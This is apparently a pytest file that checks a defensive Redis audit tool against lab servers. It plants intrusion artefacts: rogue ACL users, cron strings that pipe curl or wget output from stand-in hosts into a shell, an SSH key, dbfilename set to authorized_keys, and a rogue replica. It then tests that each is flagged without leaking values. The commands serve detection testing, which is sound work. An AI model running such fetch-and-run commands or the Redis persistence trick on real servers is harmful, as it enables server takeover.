"""The Redis audit against real servers: finds what was planted, writes nothing, shows no hash and no value."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta

import pytest
from tests.audits.test_postgresql import run_audit

from leftopen.audit import Span, When
from leftopen.audits.redis import audit
from leftopen.errors import StoreRefused
from leftopen.lab.servers import Lab
from leftopen.lab.servers.redis import command

pytestmark = pytest.mark.servers
CRON = "\n\n*/5 * * * * root curl -fsS http://mirror.example.invalid/init.sh | sh\n\n"
PLANTED = [
    ("account", "svc_sync"),
    ("account", "ghost"),
    ("key", "backup1"),
    ("key", "cache:warm"),
    ("key", "loader"),
    ("key", "a key of 25 bytes"),
    ("primary", "203.0.113.9:6379"),
    ("setting", "dbfilename"),
]


@pytest.fixture(scope="module", params=["wheel", "debian"])
def seen(request, tmp_path_factory):
    with Lab() as lab, pytest.MonkeyPatch.context() as patch:
        running = lab.redis("auth", version=request.param)

        def do(*words: str) -> str:
            return command(lab, running, *words)

        do("ACL", "SETUSER", "svc_sync", "on", ">planted-acl-password", "~*", "+@all")
        do("ACL", "SETUSER", "ghost", "on", "nopass", "~*", "+get")
        do("ACL", "SETUSER", "calm", "on", ">planted-acl-password", "~app:*", "+get")
        do("SET", "backup1", CRON)
        do("SET", "cache:warm", "ssh-rsa AAAAplantedplanted root@example")
        do("SELECT", "0")
        do("SET", "loader", "wget -qO- http://h.example.invalid/x | bash")
        do("SET", "user:13800138000:session1", CRON)
        do("SET", "pupil:1", "canary-value-of-a-pupil")
        do("SET", "plain", "12 34 56 78 90")
        do("HSET", "h", "f", "canary-value-in-a-hash")
        if request.param == "wheel":
            do("CONFIG", "SET", "dbfilename", "authorized_keys")
        do("REPLICAOF", "203.0.113.9", "6379")
        before = do("DEBUG", "DIGEST") if request.param == "wheel" else do("DBSIZE")
        lab.watch(running)
        window = Span(datetime.now(UTC) - timedelta(days=2), datetime.now(UTC) - timedelta(days=1))
        report = run_audit(running, tmp_path_factory.mktemp("audit"), patch, window)
        sent = lab.executed(running)
        after = do("DEBUG", "DIGEST") if request.param == "wheel" else do("DBSIZE")
        yield report, sent, before, after, request.param


@pytest.mark.parametrize(("kind", "name"), PLANTED)
def test_what_a_visitor_left_is_found(seen, kind, name) -> None:
    report, version = seen[0], seen[4]
    found = [a for a in report.artefacts if (a.kind, a.name) == (kind, name)]
    assert found, [(a.kind, a.name, a.detail) for a in report.artefacts]
    if name == "dbfilename" and version == "debian":
        assert not found[0].suspicious  # Redis 7 refuses to change it at run time
        return
    assert found[0].suspicious
    assert found[0].dated is not When.INSIDE


def test_nothing_honest_is_accused(seen) -> None:
    suspects = {(a.kind, a.name) for a in seen[0].artefacts if a.suspicious}
    assert not suspects & {("account", "calm"), ("key", "pupil:1"), ("key", "plain"), ("account", "auditor")}


def test_no_hash_no_value_no_number_leaves(seen) -> None:
    text = repr(seen[0])
    for secret in ("canary", "planted-acl", "13800138000", "AAAAplanted", "mirror.example"):
        assert secret not in text
    assert hashlib.sha256(b"planted-acl-password").hexdigest()[:16] not in text


def test_only_declared_reads_were_sent(seen) -> None:
    declared = {name.lower().replace(" ", "|") for name in audit.commands} | {name.lower().split(" ")[0] for name in audit.commands}
    assert set(seen[1]) <= declared
    assert not set(seen[1]) & {"set", "client|setinfo", "hello", "config|set", "get"}


def test_nothing_was_written(seen) -> None:
    assert seen[2] == seen[3]


def test_the_version_splits_the_verdict(seen) -> None:
    facts = " ".join(seen[0].facts)
    assert ("lets anybody with CONFIG write files" in facts) == (seen[4] == "wheel")


def test_a_key_not_touched_since_before_the_window_is_before(tmp_path, monkeypatch) -> None:
    with Lab() as lab:
        running = lab.redis("auth")
        command(lab, running, "SET", "backup1", CRON)
        now = datetime.now(UTC)
        later = Span(now + timedelta(seconds=60), None)
        report = run_audit(running, tmp_path, monkeypatch, later)
        assert next(a for a in report.artefacts if a.kind == "key").dated is When.BEFORE
        with pytest.raises(StoreRefused) as caught:
            run_audit(running, tmp_path, monkeypatch, later, password="wrong-secret")
        assert "wrong-secret" not in str(caught.value)
